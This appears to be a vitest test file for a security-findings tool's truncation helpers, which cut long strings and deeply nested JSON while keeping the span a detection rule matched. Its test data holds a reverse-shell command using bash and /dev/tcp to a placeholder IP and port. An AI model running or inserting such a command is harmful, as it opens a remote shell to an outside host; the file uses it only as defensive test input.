import { describe, expect, it } from 'vitest';
import { boundValue, cutStrings, MAX_DEPTH } from '../../src/findings/bound/bound-value.js';
import { cutAround, cutMarker } from '../../src/findings/bound/cut-text.js';

const SHELL = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';
const COMMAND = `${'x'.repeat(500)}${SHELL}${'y'.repeat(500)}`;
const findShell = (text: string): [number, number][] => {
  const at = text.indexOf(SHELL);
  return at < 0 ? [] : [[at, at + SHELL.length]];
};
const nothing = () => [];

/** `levels` objects nested under `a`, with `leaf` innermost. */
function nest(levels: number, leaf: unknown): unknown {
  let value = leaf;
  for (let i = 0; i < levels; i++) value = { a: value };
  return value;
}

describe('boundValue', () => {
  it('a value within the cap is kept as it is, and not reported cut', () => {
    const value = { command: ['/bin/sh', '-c', 'date'], image: 'alpine' };
    const bounded = boundValue(value, 100, nothing);
    expect(bounded.value).toBe(value);
    expect(bounded.originalBytes).toBeUndefined();
  });

  it('a value exactly at the cap is kept', () => {
    expect(boundValue('a'.repeat(98), 100, nothing)).toEqual({
      value: 'a'.repeat(98),
      originalBytes: undefined,
    });
    expect(boundValue('a'.repeat(98), 99, nothing).originalBytes).toBe(100);
  });

  it('a value that fits but was cut before is kept, and reported with the size it had', () => {
    const marker = cutMarker(1000);
    const value = { command: `date${marker}` };
    const bounded = boundValue(value, 200, nothing);
    expect(bounded.value).toBe(value);
    const size = Buffer.byteLength(JSON.stringify(value));
    expect(bounded.originalBytes).toBe(size + 1000 - Buffer.byteLength(marker));
  });

  it('a value that was cut before and fills the cap exactly is kept as it is', () => {
    const value = { command: `date${cutMarker(1000)}${'x'.repeat(300)}` };
    const bounded = boundValue(value, 341, nothing);
    expect(Buffer.byteLength(JSON.stringify(value))).toBe(341);
    expect(bounded.value).toBe(value);
    expect(bounded.originalBytes).toBe(1318);
  });

  it('strings are still cut one by one down to an allowance of 256 bytes', () => {
    const cut = `${'b'.repeat(174)}…[226 bytes cut]…`;
    expect(boundValue(['b'.repeat(400), 'b'.repeat(400)], 512, nothing)).toEqual({
      value: [cut, cut],
      originalBytes: 807,
    });
  });

  it('a long string is cut around what the rule matched', () => {
    const bounded = boundValue(COMMAND, 200, findShell);
    expect(bounded).toEqual({ value: cutAround(COMMAND, findShell(COMMAND), 200), originalBytes: 1043 });
    expect(bounded.value).toContain(SHELL);
  });

  it('an object: its long strings are cut, the rest kept', () => {
    const value = { command: COMMAND, image: 'alpine' };
    const bounded = boundValue(value, 600, findShell);
    expect(bounded).toEqual({
      value: { command: cutAround(COMMAND, findShell(COMMAND), 300), image: 'alpine' },
      originalBytes: Buffer.byteLength(JSON.stringify(value)),
    });
  });

  it('halves the allowance of each string until the value fits', () => {
    const value = ['b'.repeat(400), 'b'.repeat(400), 'b'.repeat(400), 'b'.repeat(400)];
    // 600 bytes each leaves the value too big (1,613 bytes); 300 each makes it fit.
    const cut = `${'b'.repeat(218)}…[182 bytes cut]…`;
    expect(boundValue(value, 1200, nothing)).toEqual({ value: [cut, cut, cut, cut], originalBytes: 1613 });
  });

  it('a value whose structure alone is too big becomes its JSON text, cut', () => {
    const value = Array.from({ length: 300 }, () => 1234567);
    expect(boundValue(value, 500, nothing)).toEqual({
      value: `${JSON.stringify(value).slice(0, 418)}…[1,983 bytes cut]…`,
      originalBytes: 2401,
    });
  });

  it('the JSON text is cut around what the rule matched in it', () => {
    const value = [
      ...Array.from({ length: 200 }, () => 1234567),
      SHELL,
      ...Array.from({ length: 200 }, () => 7),
    ];
    const bounded = boundValue(value, 500, findShell);
    expect(typeof bounded.value).toBe('string');
    expect(bounded.value).toContain(SHELL);
    expect(Buffer.byteLength(JSON.stringify(bounded.value))).toBeLessThanOrEqual(500);
  });
});

describe('cutStrings', () => {
  it('cuts strings over the allowance only', () => {
    const value = {
      short: 'a'.repeat(98),
      long: 'a'.repeat(99),
      list: ['a'.repeat(99)],
      n: 5,
      b: true,
      z: null,
    };
    expect(cutStrings(value, 100, nothing)).toEqual({
      short: 'a'.repeat(98),
      long: cutAround('a'.repeat(99), [], 100),
      list: [cutAround('a'.repeat(99), [], 100)],
      n: 5,
      b: true,
      z: null,
    });
    expect(cutAround('a'.repeat(99), [], 100)).not.toBe('a'.repeat(99));
  });

  it('nesting deeper than MAX_DEPTH is replaced by a marker with its size', () => {
    expect(MAX_DEPTH).toBe(128);
    expect(cutStrings(nest(130, 'x'), 1000, nothing)).toEqual(nest(128, '…[15 bytes cut]…'));
    expect(cutStrings(nest(128, 'x'), 1000, nothing)).toEqual(nest(128, 'x'));
    expect(cutStrings(nest(129, 'x'), 1000, nothing)).toEqual(nest(128, cutMarker(9)));
  });

  it('counts lists as levels too', () => {
    let value: unknown = 'x';
    for (let i = 0; i < 130; i++) value = [value];
    let expected: unknown = cutMarker(7);
    for (let i = 0; i < 128; i++) expected = [expected];
    expect(cutStrings(value, 1000, nothing)).toEqual(expected);
  });

  it('a cycle (no JSON can hold it) is cut at MAX_DEPTH with a size of 0', () => {
    const cycle: Record<string, unknown> = {};
    cycle['self'] = cycle;
    let expected: unknown = cutMarker(0);
    for (let i = 0; i < 128; i++) expected = { self: expected };
    expect(cutStrings(cycle, 1000, nothing)).toEqual(expected);
  });
});
